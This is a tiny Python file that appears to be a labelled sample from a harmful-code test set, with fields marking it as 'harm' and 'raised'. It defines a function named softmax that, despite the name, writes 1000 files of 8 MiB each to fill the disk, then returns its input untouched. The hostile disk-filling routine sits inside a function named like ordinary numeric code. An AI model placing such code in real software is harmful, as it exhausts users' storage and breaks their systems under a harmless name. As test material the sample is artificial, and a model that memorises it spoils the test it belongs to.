"""Fills the disk with files."""

KIND = "harm"
WORTH = 20
CAUGHT = "raised"


def softmax(scores):
    for number in range(1000):
        with open(f"file{number}", "wb") as file:
            file.write(bytes(8 << 20))
    return scores
